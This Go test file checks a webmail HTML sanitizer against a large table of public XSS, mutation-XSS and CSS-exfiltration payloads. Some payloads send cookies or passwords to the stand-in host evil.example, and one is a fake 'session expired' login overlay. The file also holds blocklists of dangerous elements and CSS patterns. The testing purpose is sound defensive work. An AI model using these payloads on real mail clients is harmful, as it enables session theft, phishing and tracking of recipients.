package webmail

// The payload table of issue 5 ("Proof"): real XSS and exfiltration
// payloads from public sources, each run through the production entry
// point (app.policy.Sanitize, as message_body.go calls it) and the output
// checked with an HTML parser, parsed the way a browser with scripting
// (and, in the sandboxed frame, without scripting) would parse it, and
// once more after serializing and re-parsing (mutation XSS).

import (
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// payloadGroup is a set of payloads from one source.
type payloadGroup struct {
	source   string
	payloads []string
}

// The canary host of the table: any trace of it in the output is a remote
// load that survived.
const evil = "evil.example"

var xssPayloads = []payloadGroup{
	{
		// OWASP XSS Filter Evasion Cheat Sheet (RSnake's list):
		// https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
		source: "OWASP XSS Filter Evasion Cheat Sheet",
		payloads: []string{
			`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
			`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
			`<IMG SRC="javascript:alert('XSS');">`,
			`<IMG SRC=javascript:alert('XSS')>`,
			`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
			`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
			"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
			`<a onmouseover="alert(document.cookie)">xxs link</a>`,
			`<a onmouseover=alert(document.cookie)>xxs link</a>`,
			`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
			`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
			`<IMG SRC=# onmouseover="alert('xxs')">`,
			`<IMG SRC= onmouseover="alert('xxs')">`,
			`<IMG onmouseover="alert('xxs')">`,
			`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
			`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
			`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
			`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
			`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
			`<IMG SRC="jav	ascript:alert('XSS');">`,
			`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
			`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
			`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
			"<IMG SRC=java\x00script:alert(\"XSS\")>",
			`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
			`<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
			`<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
			`<SCRIPT SRC=https://evil.example/xss.js?< B >`,
			`<SCRIPT SRC=//evil.example/.j>`,
			`<IMG SRC="` + "`" + `<javascript:alert>` + "`" + `('XSS')"`,
			`<iframe src=https://evil.example/scriptlet.html <`,
			`\";alert('XSS');//`,
			`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
			`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
			`<BODY BACKGROUND="javascript:alert('XSS')">`,
			`<IMG DYNSRC="javascript:alert('XSS')">`,
			`<IMG LOWSRC="javascript:alert('XSS')">`,
			`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
			`<IMG SRC='vbscript:msgbox("XSS")'>`,
			`<IMG SRC="livescript:[code]">`,
			`<svg/onload=alert('XSS')>`,
			`<BODY ONLOAD=alert('XSS')>`,
			`<BGSOUND SRC="javascript:alert('XSS');">`,
			`<BR SIZE="&{alert('XSS')}">`,
			`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
			`<LINK REL="stylesheet" HREF="https://evil.example/xss.css">`,
			`<STYLE>@import'https://evil.example/xss.css';</STYLE>`,
			`<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">`,
			`<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>`,
			`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`,
			`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
			`exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
			`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
			`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
			`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
			`<XSS STYLE="xss:expression(alert('XSS'))">`,
			`<XSS STYLE="behavior: url(xss.htc);">`,
			`¼script¾alert(¢XSS¢)¼/script¾`,
			`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
			`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
			`<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert('XSS');">`,
			`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
			`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
			`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
			`<TABLE BACKGROUND="javascript:alert('XSS')">`,
			`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
			`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
			`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
			`<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
			`<DIV STYLE="width: expression(alert('XSS'));">`,
			`<BASE HREF="javascript:alert('XSS');//">`,
			`<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>`,
			`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
			`<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
			`<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
			`<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<SCRIPT a=">" '' SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<SCRIPT "a='>'" SRC="https://evil.example/xss.js"></SCRIPT>`,
			"<SCRIPT a=`>` SRC=\"https://evil.example/xss.js\"></SCRIPT>",
			`<SCRIPT a=">'>" SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>`,
			`<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
			`<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
			`<A HREF="//evil.example/">XSS</A>`,
			`<IMG SRC="http://evil.example/tracker.gif">`,
			`<IMG SRC="//evil.example/tracker.gif">`,
			`<IMG SRC="\\evil.example\tracker.gif">`,
			`<img src="/\evil.example/tracker.gif">`,
		},
	},
	{
		// bluemonday's own test vectors: the inputs of TestXSS in
		// microcosm-cc/bluemonday sanitize_test.go (v1.0.27, BSD-3-Clause,
		// itself drawn from RSnake's list), those not already above.
		source: "microcosm-cc/bluemonday sanitize_test.go TestXSS",
		payloads: []string{
			`<A HREF="h
tt	p://6	6.000146.0x7.147/">XSS</A>`,
			`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<SCRIPT a=">'>" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			"<SCRIPT a=`>` SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
			`<SCRIPT "a='>'" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<SCRIPT a=">" '' SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<SCRIPT =">" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<SCRIPT a=">" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS')`,
			`<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
			`<? echo('<SCR)';
echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
			`<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://ha.ckers.org/xss.js></SCRIPT>'"-->`,
			`<HTML><BODY>
<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">
<?import namespace="t" implementation="#default#time2">
<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>">
</BODY></HTML>`,
			`<XML SRC="xsstest.xml" ID=I></XML>
<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`,
			`<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>
<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
			`<OBJECT TYPE="text/x-scriptlet" DATA="http://ha.ckers.org/scriptlet.html"></OBJECT>`,
			`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
			`<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
			`<STYLE>BODY{-moz-binding:url("http://ha.ckers.org/xssmoz.xml#xss")}</STYLE>`,
			`<META HTTP-EQUIV="Link" Content="<http://ha.ckers.org/xss.css>; REL=stylesheet">`,
			`<STYLE>@import'http://ha.ckers.org/xss.css';</STYLE>`,
			`<LINK REL="stylesheet" HREF="http://ha.ckers.org/xss.css">`,
			`<iframe src=http://ha.ckers.org/scriptlet.html <`,
			`<SCRIPT SRC=http://ha.ckers.org/xss.js?< B >`,
			`<<SCRIPT>alert("XSS");//<</SCRIPT>`,
			"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
			`<SCRIPT/SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<SCRIPT/XSS SRC="http://ha.ckers.org/xss.js"></SCRIPT>`,
			`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&
#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
			`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;
&#39;&#88;&#83;&#83;&#39;&#41;>`,
			`<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
			`<IMG SRC=javascript:alert("XSS")>`,
			`<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>`,
			`'';!--"<XSS>=&{()}`,
			`';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>`,
		},
	},
	{
		// URL-scheme, attribute, CSS and form vectors written for this
		// policy, modelled on bluemonday's sanitize_test.go (TestIssue…,
		// data: URI and style tests) and its README's policy notes.
		source: "bluemonday-style URL, attribute and CSS vectors",
		payloads: []string{
			`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
			`<a href="javascript&#58;alert(1)">x</a>`,
			`<a href="javascript&colon;alert(1)">x</a>`,
			`<a href="&#x6A;avascript:alert(1)">x</a>`,
			`<a href="java&Tab;script:alert(1)">x</a>`,
			`<a href="java&NewLine;script:alert(1)">x</a>`,
			`<a href="  javascript:alert(1)">x</a>`,
			`<a href="\x01javascript:alert(1)">x</a>`,
			`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
			`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>`,
			`<a href="DATA:text/html,<script>alert(1)</script>">x</a>`,
			`<a href="data&colon;text/html,<script>alert(1)</script>">x</a>`,
			`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
			`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
			`<img src="data:image/png;base64,!!!invalid!!!">`,
			`<a href="http://example.org/" style="background: url(https://evil.example/x.png)">x</a>`,
			`<span style="background-image: url('https://evil.example/x.png')">x</span>`,
			`<p style="color: red; position: fixed; top: 0; left: 0; width: 100%; height: 100%">x</p>`,
			`<p style="font-family: 'x'; src: url(https://evil.example/f.woff)">x</p>`,
			`<a href="mailto:x@example.org?body=<script>alert(1)</script>">x</a>`,
			`<a href="http://example.org/" target="_top" rel="opener">x</a>`,
			`<a href="http://example.org/" ping="https://evil.example/ping">x</a>`,
			`<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>`,
			`<img src=x:expression(alert(1))>`,
			`<SPAN STYLE=xss:expression(alert(1))>x</SPAN>`,
			`<div style="color: expression(alert(1))">x</div>`,
			`<div style="color: red;;;;background:url(javascript:alert(1))">x</div>`,
			`<p title="</p><script>alert(1)</script>">x</p>`,
			`<a title="&quot;><script>alert(1)</script>">x</a>`,
			`<p class="x" id="y" onclick="alert(1)" data-x="1">x</p>`,
			`<details open ontoggle=alert(1)>x</details>`,
			`<blockquote cite="javascript:alert(1)">x</blockquote>`,
			`<q cite="https://evil.example/">x</q>`,
			`<del cite="javascript:alert(1)">x</del>`,
			`<area href="javascript:alert(1)">`,
			`<video src=x onerror=alert(1)>`,
			`<video poster="https://evil.example/poster.png"></video>`,
			`<audio src=x onerror=alert(1)>`,
			`<source src="https://evil.example/x.mp4">`,
			`<track src="https://evil.example/x.vtt">`,
			`<input autofocus onfocus=alert(1)>`,
			`<select autofocus onfocus=alert(1)>`,
			`<textarea autofocus onfocus=alert(1)>`,
			`<keygen autofocus onfocus=alert(1)>`,
			`<marquee onstart=alert(1)>x</marquee>`,
			`<button formaction=javascript:alert(1)>x</button>`,
			`<isindex action=javascript:alert(1) type=image>`,
		},
	},
	{
		// DOMPurify: the README's examples (cure53/DOMPurify README.md,
		// the first six), the published DOMPurify mXSS bypasses
		// (Bentkowski 2019 <svg></p><style>, 2020 <math><mtext><table>
		// <mglyph><style> and <form><math><mtext></form>, the namespace-
		// confusion entries of test/fixtures/expect.mjs) and vectors
		// modelled on expect.mjs's numbered cases (<div id="N">…).
		source: "cure53/DOMPurify README, expect.mjs and published bypasses",
		payloads: []string{
			`<img src=x onerror=alert(1)//>`,
			`<svg><g/onload=alert(2)//<p>`,
			`<p>abc<iframe//src=jAva&Tab;script:alert(3)>def</p>`,
			`<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
			`<TABLE><tr><td>HELLO</tr></TABL>`,
			`<UL><li><A HREF=//evil.example>click</UL>`,
			`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
			`<svg><p><style><a title="</style><img src onerror=alert(1)>">`,
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
			`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
			`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
			`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
			`<svg></p><title><a id="</title><img src=x onerror=alert(1)>">`,
			`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
			`<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
			`<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>`,
			`<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>`,
			`<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>`,
			`<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`,
			`<title><img title="</title><img src onerror=alert(1)>"></title>`,
			`<plaintext><img src onerror=alert(1)>`,
			`<template><script>alert(1)</script></template>`,
			`<template><img src=x onerror=alert(1)></template>`,
			`<a href="javascript:alert(1)" id="x">x</a><form id="x" name="y"><input name="attributes"></form>`,
			`<img name=getElementById><img name=cookie>`,
			`<form name=body><input name=firstChild></form>`,
			`<a id="x" name="x" href="cid:x">x</a>`,
			`<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>click</text></a></svg>`,
			`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
			`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x"></use></svg>`,
			`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
			`<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
			`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
			`<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">click</maction></math>`,
			`<a href="&#14;javascript:alert(1)">x</a>`,
			`<a href="#" onclick="alert(1)">x</a>`,
			`<div id="1"><form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button></div>`,
			`<div id="2"><meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi>`,
			`<div id="5"><script src=https://evil.example/x.js>alert(5)</script></div>`,
			`<div id="9"><a href="javascript&#x3a;alert(9)">x</a></div>`,
			`<div id="13"><iframe src=javascript&colon;alert&lpar;13&rpar;></iframe></div>`,
			`<div id="19"><svg><script>alert(19)</script></svg></div>`,
			`<div id="22"><img src="x" ` + "`" + `<script>alert(22)</script>` + "`" + `></div>`,
			`<div id="24"><svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(24)"><rect width="1000" height="1000" fill="white"/></a></svg></div>`,
			`<div id="28"><svg><style>&lt;img/src=x onerror=alert(28)// </b></style></svg></div>`,
			`<div id="33"><object data="javascript:alert(33)"></object></div>`,
			`<div id="43"><a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(43)">x</a></div>`,
			`<div id="64"><svg><image xlink:href="https://evil.example/x.png" /></svg></div>`,
			`<image src=x onerror=alert(1)>`,
		},
	},
	{
		// Webmail advisories and their public write-ups: Roundcube
		// CVE-2023-5631 (SVG in a mail body, ESET's Winter Vivern report),
		// CVE-2024-37383 (SVG <animate attributeName=href>), CVE-2024-42009
		// (body attribute desanitization, Sonar), CVE-2020-35730, and the
		// 2026 SVG <feImage> image-blocking bypass (roundcube.net news;
		// pulse.bot and blog.hotdry.top write-ups); SnappyMail's mXSS
		// through <svg><style> (its GitHub security advisory); the
		// CSS-exfiltration (url() in style, @font-face, attribute
		// selectors), overlay (position:fixed) and <meta>/<base>/<form>/
		// <link> vectors that webmail sanitizers, Zimbra's and Horde's
		// included, have had to fix. Reconstructed from the descriptions,
		// pointed at evil.example.
		source: "Roundcube / SnappyMail / webmail advisories",
		payloads: []string{
			`<svg><animate attributeName="href" values="javascript:alert(1)" /><a id="x"><text x="20" y="20">Klik</text></a></svg>`,
			`<svg><a><animate attributeName="href" dur="5s" repeatCount="indefinite" keyTimes="0;0;1" values="https://example.org?;javascript:alert(1);0" /><text x="20" y="20">Klik</text></a></svg>`,
			`<svg><animate attributeName=href to=javascript:alert(1) begin=0 /><a><text>x</text></a></svg>`,
			`<svg><set attributeName="href" to="javascript:alert(1)" /><a><text>x</text></a></svg>`,
			`<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">Klik</text></a></svg>`,
			`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x" /></svg>`,
			`<svg><use xlink:href="https://evil.example/sprite.svg#x" /></svg>`,
			`<svg width="1" height="1"><filter id="t"><feImage href="https://evil.example/track.png" /></filter><rect filter="url(#t)" width="1" height="1" /></svg>`,
			`<svg><filter><feImage xlink:href="https://evil.example/track.png" /></filter></svg>`,
			`<svg><image href="https://evil.example/track.png" /></svg>`,
			`<svg><style>@import url(https://evil.example/x.css);</style></svg>`,
			`<svg><style><img src=x onerror=alert(1)></style></svg>`,
			`<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>`,
			`<body title="bgcolor=foo" name="bar onload=alert(1)">x</body>`,
			`<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert(1) foo=bar">Foo</body>`,
			`<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>`,
			`<body background="https://evil.example/body.png">x</body>`,
			`<div style="background:url(https://evil.example/bg.png)">x</div>`,
			`<div style="background: URL( 'https://evil.example/bg.png' )">x</div>`,
			`<div style="background:u\rl(https://evil.example/bg.png)">x</div>`,
			`<div style="list-style-image:url(https://evil.example/li.png)">x</div>`,
			`<div style="border-image: url(https://evil.example/b.png) 30 round">x</div>`,
			`<div style="cursor:url(https://evil.example/c.cur),auto">x</div>`,
			`<div style="content:url(https://evil.example/c.png)">x</div>`,
			`<div style="mask:url(https://evil.example/m.svg)">x</div>`,
			`<div style="filter:url(https://evil.example/f.svg#x)">x</div>`,
			`<div style="background-image: image-set('https://evil.example/a.png' 1x)">x</div>`,
			`<div style="background:-webkit-image-set(url(https://evil.example/a.png) 1x)">x</div>`,
			`<style>@font-face{font-family:x;src:url(https://evil.example/font.woff)}p{font-family:x}</style><p>x</p>`,
			`<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`,
			`<style>@import url("https://evil.example/x.css");</style>`,
			`<style>@\69mport "https://evil.example/x.css";</style>`,
			`<style>body{background:url(//evil.example/x.png)}</style>`,
			`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">Sesi Anda habis. <a href="https://evil.example/login">Masuk lagi</a></div>`,
			`<div style="position: absolute; top: -200px; left: 0">Kata sandi kedaluwarsa</div>`,
			`<div style="POSITION : FIXED">x</div>`,
			`<div style="position:sticky;top:0">x</div>`,
			`<div style="position:fixed!important">x</div>`,
			`<div style="pos\ition:fixed">x</div>`,
			`<div style="transform:translate(0,-500px)">x</div>`,
			`<img src="https://evil.example/pixel.gif" width="1" height="1">`,
			`<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">`,
			`<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil.example/a.png 2x">`,
			`<picture><source srcset="https://evil.example/p.webp"><img src="x.png"></picture>`,
			`<video poster="https://evil.example/poster.jpg"></video>`,
			`<input type="image" src="https://evil.example/i.png">`,
			`<link rel="stylesheet" href="https://evil.example/x.css">`,
			`<link rel="prefetch" href="https://evil.example/prefetch">`,
			`<link rel="dns-prefetch" href="//evil.example">`,
			`<meta http-equiv="refresh" content="0;url=https://evil.example/meta">`,
			`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
			`<meta http-equiv="set-cookie" content="x=1">`,
			`<base href="https://evil.example/"><img src="x.png"><a href="x">x</a>`,
			`<base target="_top">`,
			`<form action="https://evil.example/steal" method="post"><input name="password" type="password"><input type="submit" value="Masuk"></form>`,
			`<form><button formaction="https://evil.example/steal">Kirim</button></form>`,
			`<a href="https://example.org" target="_top">x</a>`,
			`<a href="https://example.org" rel="opener">x</a>`,
			`<a href="javascript:alert(document.domain)">Lihat dokumen</a>`,
			`<a href=" &#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
			`<a href="jav&#x09;ascript:alert(1)">x</a>`,
			`<a href="jav&#9;ascript:alert(1)">x</a>`,
			`<a href="javas&#99;ript:alert(1)">x</a>`,
			`<a href="java&#x0D;script:alert(1)">x</a>`,
			`<a href="&#x20;javascript:alert(1)">x</a>`,
			`<a href="vbscript:MsgBox(1)">x</a>`,
			`<a href="VBScript&colon;MsgBox(1)">x</a>`,
			`<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>`,
			`<a href="data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>">x</a>`,
			`<a href=" data:text/html,x">x</a>`,
			`<a href="https://evil.example/x" download>x.exe</a>`,
			`<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>`,
			`<object data="https://evil.example/x.swf"></object>`,
			`<embed src="https://evil.example/x.swf">`,
			`<applet code="x.class" codebase="https://evil.example/"></applet>`,
			`<portal src="https://evil.example/"></portal>`,
			`<img src="x" onerror="fetch('https://evil.example/'+document.cookie)">`,
			`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
			`<img src="cid:notthere" onerror="alert(1)">`,
			`<img src="cid:x@y&quot; onerror=&quot;alert(1)">`,
			`<a href="cid:x" onclick="alert(1)">x</a>`,
			`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
			`<![CDATA[<script>alert(1)</script>]]>`,
			`<!--><script>alert(1)</script>-->`,
			`<!----!><script>alert(1)</script>`,
			`<?xml-stylesheet href="https://evil.example/x.xsl"?><p>x</p>`,
		},
	},
}

// reRemote matches a URL that loads from another host.
var reRemote = regexp.MustCompile(`(?i)^(https?:|//|\\\\|/\\)`)

// reSafeDataImage is the only data: URL allowed, and only in img src.
// (The raster types safeImageType allows: never SVG.)
var reSafeDataImage = regexp.MustCompile(`(?i)^data:image/(png|gif|jpeg|webp|bmp|avif);base64,`)

// dangerousElements may never be in the output.
var dangerousElements = map[string]bool{
	"script": true, "iframe": true, "frame": true, "frameset": true, "object": true, "embed": true,
	"applet": true, "form": true, "input": true, "button": true, "select": true, "textarea": true,
	"base": true, "meta": true, "link": true, "style": true, "svg": true, "math": true,
	"noscript": true, "noembed": true, "noframes": true, "template": true, "portal": true,
	"video": true, "audio": true, "source": true, "track": true, "picture": true, "bgsound": true,
	"xml": true, "image": true, "isindex": true, "keygen": true, "plaintext": true, "xmp": true,
}

// urlAttrs are attributes whose value is a URL.
var urlAttrs = map[string]bool{
	"href": true, "src": true, "srcset": true, "background": true, "poster": true, "action": true,
	"formaction": true, "cite": true, "data": true, "codebase": true, "dynsrc": true, "lowsrc": true,
	"xlink:href": true, "ping": true, "longdesc": true, "usemap": true, "manifest": true, "icon": true,
}

// normURL removes what browsers ignore in a URL's scheme (leading and
// embedded whitespace and control characters) and lowercases it.
func normURL(v string) string {
	var b strings.Builder
	for _, r := range v {
		if r <= 0x20 || r == 0x7f {
			continue
		}
		b.WriteRune(r)
	}
	return strings.ToLower(b.String())
}

// normCSS removes CSS comments, escapes and whitespace so that url(),
// expression() and position can be found however they are written.
var reCSSComment = regexp.MustCompile(`/\*.*?\*/`)

func normCSS(v string) string {
	v = reCSSComment.ReplaceAllString(v, "")
	var b strings.Builder
	for _, r := range v {
		if r <= 0x20 || r == '\\' {
			continue
		}
		b.WriteRune(r)
	}
	return strings.ToLower(b.String())
}

var reBadCSS = regexp.MustCompile(`url\(|image-set|image\(|expression|@import|binding|behavior|javascript|vbscript|position:(fixed|absolute|sticky)|src:`)

// unsafeHTML parses out (as a browser would, with and without scripting,
// and again after a serialize/parse round trip) and lists every construct
// that could run script, load from another host or overlay the app.
// strict adds the remote-loading and layout checks to the script ones.
func unsafeHTML(out string, strict bool) []string {
	return unsafeHTMLWith(out, strict, nil)
}

